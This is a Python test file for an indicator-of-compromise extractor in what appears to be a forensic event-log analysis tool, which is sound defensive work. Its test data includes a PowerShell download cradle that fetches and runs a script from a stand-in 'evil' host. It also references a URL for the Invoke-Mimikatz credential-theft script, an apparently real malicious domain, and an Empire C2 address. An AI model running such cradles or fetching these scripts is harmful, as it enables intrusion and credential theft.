"""Indicators pulled from commands, scripts, AV and IDS hits (analysis/iocs.py)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import duckdb
import ibis
import pyarrow as pa
import pytest

from ashiato.analysis.context import Context
from ashiato.analysis.iocs import defang, extract, from_text, split_hashes
from ashiato.formats import evtx
from ashiato.formats.testing import parse_file


def ctx_of(table: pa.Table) -> Context:
    con = duckdb.connect()
    con.register("_t", table)
    con.execute("CREATE TABLE events AS SELECT * FROM _t")
    return Context(events=ibis.duckdb.from_connection(con).table("events"), tz="UTC")


def by_value(iocs: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {i["value"]: i for i in iocs}


def test_text_indicators_and_non_indicators() -> None:
    found = dict(
        (v, k)
        for k, v in from_text(
            "powershell IEX (New-Object System.Net.WebClient).DownloadString("
            "'https://evil.example.net/stage2.ps1'); copy \\\\fs01.corp.example.jp\\c$\\x.exe "
            "C:\\Users\\sato\\AppData\\Local\\Temp\\upd.exe; ping 203.0.113.9; "
            "xmlns='http://schemas.microsoft.com/win/2004/08/events/event' "
            "http://crl.microsoft.com/pki/crl/x.crl 127.0.0.1 10.1.2.3 version 1.0.0 6.1.7601.0"
        )
    )
    assert found["https://evil.example.net/stage2.ps1"] == "url"
    assert found["evil.example.net"] == "domain"
    assert found["stage2.ps1"] == "filename"
    assert found["fs01.corp.example.jp"] == "domain"  # a UNC server
    assert found["upd.exe"] == "filename"
    assert found["203.0.113.9"] == "ipv4" and found["10.1.2.3"] == "ipv4"
    assert "System.Net.WebClient" not in found and "system.net.webclient" not in found
    for junk in ("schemas.microsoft.com", "crl.microsoft.com", "127.0.0.1", "6.1.7601.0"):
        assert not any(junk in v for v in found), junk


def test_hashes_split_by_algorithm_without_imphash() -> None:
    got = split_hashes(
        "SHA1=8C5437CD76A89EC983E3B364E219944DA3DAB464,MD5=975B45B669930B0CC773EAF2B414206F,"
        "SHA256=3656F37A1C6951EC4496FABB8EE957D3A6E3C276D5A3785476B482C9C0D32EA2,"
        "IMPHASH=00000000000000000000000000000000"
    )
    assert [a for a, _ in got] == ["sha1", "md5", "sha256"]
    assert split_hashes("IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744") == []


def test_defang() -> None:
    assert defang("http://evil.example.net/a.ps1") == "hxxp://evil.example[.]net/a.ps1"
    assert defang("https://203.0.113.9:8443/x") == "hxxps://203.0.113[.]9:8443/x"
    assert defang("evil.example.net") == "evil.example[.]net"


@pytest.mark.corpus
def test_download_cradle_sample_yields_its_url(shared: Path) -> None:
    sample = (
        "evtx-attack-samples/Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"
    )
    table, _ = parse_file(evtx.FORMAT, shared / sample)
    got = by_value(extract(ctx_of(table)))
    url = got["https://hotelesms.com/talsk.txt"]
    assert url["type"] == "url" and "command_line" in url["sources"]
    assert url["defanged"] == "hxxps://hotelesms[.]com/talsk.txt"
    assert url["evidence"] and url["evidence"][0]["ref"].startswith("test:")
    assert url["hosts"] and not url["internal"]
    assert got["hotelesms.com"]["type"] == "domain"


@pytest.mark.corpus
def test_script_blocks_rejoined_and_comments_ignored(shared: Path) -> None:
    table, _ = parse_file(
        evtx.FORMAT, shared / "deepbluecli/evtx/Powershell-Invoke-Obfuscation-many.evtx"
    )
    got = by_value(extract(ctx_of(table)))
    url = "https://raw.githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1"
    assert "script_block" in got[url]["sources"]
    assert got["Invoke-Mimikatz.ps1"]["type"] == "filename"
    # links in the help text of the obfuscation module itself are not indicators
    assert not any("technet.microsoft.com" in v or "apache.org" in v for v in got)


@pytest.mark.corpus
def test_antivirus_and_encoded_service_payloads(shared: Path) -> None:
    table, _ = parse_file(
        evtx.FORMAT,
        shared
        / "evtx-attack-samples/AutomatedTestingTools"
        / "WinDefender_Events_1117_1116_AtomicRedTeam.evtx",
    )
    got = by_value(extract(ctx_of(table)))
    assert got["Get-Keystrokes.ps1"]["sources"] == ["antivirus"]
    assert "go.microsoft.com" not in got  # Defender's own FWLink


@pytest.mark.corpus
def test_empire_launcher_decoded_and_host_noise_left_out(shared: Path, tmp_path: Path) -> None:
    """OTRF Empire PsExec: the C2 is only in the base64 launcher; the host's Temp files
    (PowerShell policy tests, empty logs, agent caches) are not indicators."""
    from ashiato import engines
    from ashiato.case import Case
    from ashiato.ingest import Options, ingest

    case = Case.create_or_open(tmp_path / "case", tz="UTC")
    sample = "otrf-security-datasets/atomic/windows/lateral_movement/host"
    ingest(case, [shared / sample / "empire_psexec_dcerpc_tcp_svcctl.zip"], Options(tz="UTC"))
    got = by_value(extract(Context(events=engines.connect(case, "duckdb").events, tz="UTC")))
    c2 = got["http://10.10.10.5"]
    assert c2["sources"] == ["decoded"] and c2["internal"]  # a lab address: kept apart
    assert got["10.10.10.5"]["type"] == "ipv4"
    hashes = [i for i in got.values() if i["type"] in ("md5", "sha1", "sha256")]
    assert not any("PSScriptPolicyTest" in i["context"] for i in hashes)
    assert "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" not in got
